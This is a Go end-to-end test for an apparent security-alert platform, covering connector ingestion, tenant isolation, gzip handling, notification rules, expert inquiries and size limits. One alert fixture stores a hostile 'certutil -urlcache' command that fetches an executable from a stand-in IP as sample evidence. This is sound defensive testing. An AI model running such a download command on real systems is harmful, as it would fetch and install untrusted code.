package e2e

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/huntdesk/huntdesk/workflows"
)

// post sends a raw body with headers and returns status and body.
func post(t *testing.T, url, token string, body []byte, header ...string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest("POST", url, bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", "application/json")
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res.StatusCode, string(b)
}

// TestConnectorIngestsTheOrgsOwnAlerts: Contoso's admin makes a connector;
// it pushes 3 alerts in 2 incidents (one of them gzip-compressed again, which
// updates rather than duplicates); a rule emails the high one; the connector
// may read nothing and ingest only for its own org; a bad item is rejected by
// index while the rest land; 10 MiB + 1 is 413.
func TestConnectorIngestsTheOrgsOwnAlerts(t *testing.T) {
	st, c := apiStack(t)
	tok := st.Tokens
	contoso, viewer, fabrikam := tok["admin@contoso.example"], tok["analyst@contoso.example"], tok["admin@fabrikam.example"]

	if r := c.api("POST", "/api/v1/connectors", viewer, map[string]any{"name": "EDR"}); r.status != 403 {
		t.Fatalf("a viewer makes a connector: %d %s", r.status, r.body)
	}
	r := c.api("POST", "/api/v1/connectors", contoso, map[string]any{"name": "EDR export"})
	var cn struct{ ID, Token string }
	r.decode(t, &cn)
	if r.status != 201 || !strings.HasPrefix(cn.Token, "hdc_") {
		t.Fatalf("connector: %d %s", r.status, r.body)
	}
	if l := c.api("GET", "/api/v1/connectors", contoso, nil); l.status != 200 || strings.Contains(string(l.body), cn.Token) {
		t.Fatalf("the list shows the secret again: %d %s", l.status, l.body)
	}
	if r := c.api("POST", "/api/v1/notification-rules", contoso, map[string]any{"name": "high", "recipients": []string{"soc@contoso.example"}, "min_severity": "high"}); r.status != 201 {
		t.Fatalf("rule: %d %s", r.status, r.body)
	}

	alerts := []map[string]any{
		{"external_id": "edr-1", "title": "certutil downloaded an executable", "severity": "high", "category": "CommandAndControl", "detection_source": "EDR",
			"devices": []map[string]string{{"id": "dev-7", "name": "FIN-LAPTOP-7"}}, "incident_external_id": "case-A",
			"evidence": []map[string]string{{"kind": "command_line", "value": "certutil -urlcache -f http://203.0.113.9/a.exe a.exe"}}},
		{"external_id": "edr-2", "title": "Encoded PowerShell", "severity": "medium", "category": "Execution", "detection_source": "EDR",
			"devices": []map[string]string{{"id": "dev-7", "name": "FIN-LAPTOP-7"}}, "incident_external_id": "case-A"},
		{"external_id": "ti-1", "title": "Known bad hash", "severity": "low", "category": "Malware", "detection_source": "Custom threat intelligence",
			"devices": []map[string]string{{"id": "dev-9", "name": "HR-DESKTOP-2"}}, "incident_external_id": "case-B"},
		{"external_id": "", "title": "no id", "severity": "urgent", "category": "x", "detection_source": "EDR"},
	}
	body, _ := json.Marshal(map[string]any{"alerts": alerts})
	status, out := post(t, st.URL+"/api/v1/connector/alerts", cn.Token, body)
	var res struct {
		Created, Updated, Rejected int
		Errors                     []struct {
			Index  int
			Fields map[string]string
		}
	}
	json.Unmarshal([]byte(out), &res)
	if status != 200 || res.Created != 3 || res.Rejected != 1 || res.Errors[0].Index != 3 || res.Errors[0].Fields["external_id"] == "" || res.Errors[0].Fields["severity"] == "" {
		t.Fatalf("ingest: %d %s", status, out)
	}
	// The same batch again, gzip-compressed: updated, never duplicated.
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write(body)
	zw.Close()
	status, out = post(t, st.URL+"/api/v1/connector/alerts", cn.Token, gz.Bytes(), "Content-Encoding", "gzip")
	json.Unmarshal([]byte(out), &res)
	if status != 200 || res.Created != 0 || res.Updated != 3 {
		t.Fatalf("re-sent gzip batch: %d %s", status, out)
	}
	var list struct {
		Items []struct {
			ID         string
			ExternalID string `json:"external_id"`
			IncidentID string `json:"incident_id"`
		}
		Count int
	}
	c.api("GET", "/api/v1/alerts?$count=true&$filter="+strings.ReplaceAll("detectionSource ne 'Microsoft Defender Experts'", " ", "%20"), viewer, nil).decode(t, &list)
	if list.Count != 3 || list.Items[0].IncidentID == "" {
		t.Fatalf("alerts after two batches: %+v", list)
	}
	incidents := map[string]bool{}
	var high string
	for _, a := range list.Items {
		incidents[a.IncidentID] = true
		if a.ExternalID == "edr-1" {
			high = a.ID
		}
	}
	if len(incidents) != 2 {
		t.Fatalf("3 alerts in %d incidents, want 2", len(incidents))
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	var sent int
	if err := st.Client.GetWorkflow(ctx, workflows.AlertWorkflowID(high), "").Get(ctx, &sent); err != nil || sent != 1 {
		t.Fatalf("the high alert's email: %d %v", sent, err)
	}
	if msgs := c.mailsTo("soc@contoso.example"); len(msgs) != 1 || !strings.Contains(msgs[0].Text, "/app/alerts/"+high) {
		t.Fatalf("emails: %+v", msgs)
	}
	if r := c.api("GET", "/api/v1/alerts/"+high, viewer, nil); r.status != 200 || !strings.Contains(string(r.body), "certutil -urlcache") {
		t.Fatalf("the alert's evidence: %d %s", r.status, r.body)
	}

	// Asking an expert about an ingested alert, from its link: the inquiry is
	// tied to it and shows its evidence; the alert lists the inquiry.
	var tiAlert, tiIncident string
	for _, a := range list.Items {
		if a.ExternalID == "ti-1" {
			tiAlert, tiIncident = a.ID, a.IncidentID
		}
	}
	ask := func(token string, body map[string]any) reply {
		body["context"] = "What did this command line do on FIN-LAPTOP-7, and is it malicious?"
		body["contact_email"] = "secops@contoso.example"
		return c.api("POST", "/api/v1/inquiries", token, body)
	}
	countInquiries := func() int {
		var l struct{ Items []struct{ ID string } }
		c.api("GET", "/api/v1/inquiries?limit=200", contoso, nil).decode(t, &l)
		return len(l.Items)
	}
	before := countInquiries()
	for what, body := range map[string]map[string]any{
		"the TI alert's link": {"topic_url": st.URL + "/api/v1/alerts/" + tiAlert},
		"the TI alert's id":   {"topic_url": "https://security.microsoft.com/alerts/x", "alert_id": tiAlert},
		"the all-TI incident": {"topic_url": st.URL + "/api/v1/incidents/" + tiIncident},
	} {
		if r := ask(contoso, body); r.status != 422 || r.code(t) != "custom_threat_intelligence" || !strings.Contains(string(r.body), "incident-response team") {
			t.Fatalf("asking about %s: %d %s", what, r.status, r.body)
		}
	}
	if n := countInquiries(); n != before {
		t.Fatalf("a refused inquiry was stored: %d inquiries, %d before", n, before)
	}
	if r := ask(fabrikam, map[string]any{"topic_url": st.URL + "/api/v1/alerts/" + high}); r.status != 404 {
		t.Fatalf("Fabrikam asks about Contoso's alert: %d %s", r.status, r.body)
	}
	r = ask(contoso, map[string]any{"topic_url": st.URL + "/api/v1/alerts/" + high})
	var inq struct {
		ID         string
		AlertID    *string `json:"alert_id"`
		TopicGroup *string `json:"topic_group"`
		Alert      *struct {
			Title, Severity string
			Evidence        []struct{ Kind, Value string }
			Devices         []struct{ Name string }
		}
	}
	r.decode(t, &inq)
	if r.status != 201 || inq.AlertID == nil || *inq.AlertID != high || inq.TopicGroup == nil || *inq.TopicGroup != "alert_information" {
		t.Fatalf("asking about the EDR alert: %d %s", r.status, r.body)
	}
	expert := tok["expert@huntdesk.example"]
	r = c.api("GET", "/api/v1/inquiries/"+inq.ID, expert, nil)
	r.decode(t, &inq)
	if inq.Alert == nil || inq.Alert.Severity != "high" || len(inq.Alert.Evidence) != 1 || !strings.Contains(inq.Alert.Evidence[0].Value, "certutil") || inq.Alert.Devices[0].Name != "FIN-LAPTOP-7" {
		t.Fatalf("the expert's view of the inquiry: %s", r.body)
	}
	if r := c.api("GET", "/api/v1/alerts/"+high, viewer, nil); !strings.Contains(string(r.body), inq.ID) {
		t.Fatalf("the alert does not list its inquiry: %s", r.body)
	}
	// By id, with another portal's link: tied to the alert all the same; the
	// incident lists both inquiries.
	r = ask(contoso, map[string]any{"topic_url": "https://security.microsoft.com/incidents/17", "alert_id": high})
	var byID struct {
		ID      string
		AlertID *string `json:"alert_id"`
		Alert   *struct{ ID string }
	}
	r.decode(t, &byID)
	if r.status != 201 || byID.Alert == nil || byID.Alert.ID != high {
		t.Fatalf("asking by alert id: %d %s", r.status, r.body)
	}
	var highIncident string
	for _, a := range list.Items {
		if a.ID == high {
			highIncident = a.IncidentID
		}
	}
	if r := c.api("GET", "/api/v1/incidents/"+highIncident, viewer, nil); !strings.Contains(string(r.body), inq.ID) || !strings.Contains(string(r.body), byID.ID) {
		t.Fatalf("the incident does not list its inquiries: %s", r.body)
	}
	queue := func(sev string) string {
		return string(c.api("GET", "/api/v1/queue?alert_severity="+sev+"&topic_group=alert_information", expert, nil).body)
	}
	if !strings.Contains(queue("high"), inq.ID) || strings.Contains(queue("low"), inq.ID) {
		t.Fatalf("the queue by linked alert severity")
	}
	for _, step := range []struct {
		path string
		body any
	}{{"/claim", nil}, {"/reports", map[string]any{"category": "concluded", "message": "certutil fetched a known downloader: isolate FIN-LAPTOP-7."}}} {
		if r := c.api("POST", "/api/v1/inquiries/"+inq.ID+step.path, expert, step.body); r.status/100 != 2 {
			t.Fatalf("%s: %d %s", step.path, r.status, r.body)
		}
	}

	// The connector reads nothing, and cannot ingest for another org.
	for _, path := range []string{"/api/v1/me", "/api/v1/alerts", "/api/v1/alerts/" + high, "/api/v1/inquiries"} {
		if r := c.call("GET", path, cn.Token, nil); r.status != 403 {
			t.Fatalf("a connector reads %s: %d %s", path, r.status, r.body)
		}
	}
	if r := c.api("GET", "/api/v1/alerts/"+high, fabrikam, nil); r.status != 404 {
		t.Fatalf("Fabrikam reads Contoso's ingested alert: %d", r.status)
	}
	if status, out := post(t, st.URL+"/api/v1/connector/alerts", tok["admin@contoso.example"], body); status != 403 {
		t.Fatalf("a user token on the ingest route: %d %s", status, out)
	}

	// Limits: 10 MiB + 1 is too large; gzip that inflates past it too.
	big := append([]byte(`{"alerts":[{"external_id":"x","title":"`), bytes.Repeat([]byte("a"), 10<<20)...)
	if status, out := post(t, st.URL+"/api/v1/connector/alerts", cn.Token, big[:10<<20+1]); status != 413 {
		t.Fatalf("10 MiB + 1: %d %s", status, out[:min(len(out), 200)])
	}
	gz.Reset()
	zw = gzip.NewWriter(&gz)
	zw.Write(big)
	zw.Close()
	if status, _ := post(t, st.URL+"/api/v1/connector/alerts", cn.Token, gz.Bytes(), "Content-Encoding", "gzip"); status != 413 {
		t.Fatalf("a gzip bomb: %d", status)
	}

	// Revoked: the secret stops working.
	if r := c.api("DELETE", "/api/v1/connectors/"+cn.ID, contoso, nil); r.status != 200 {
		t.Fatalf("revoke: %d %s", r.status, r.body)
	}
	if status, _ := post(t, st.URL+"/api/v1/connector/alerts", cn.Token, body); status != 401 {
		t.Fatalf("a revoked connector: %d", status)
	}
}
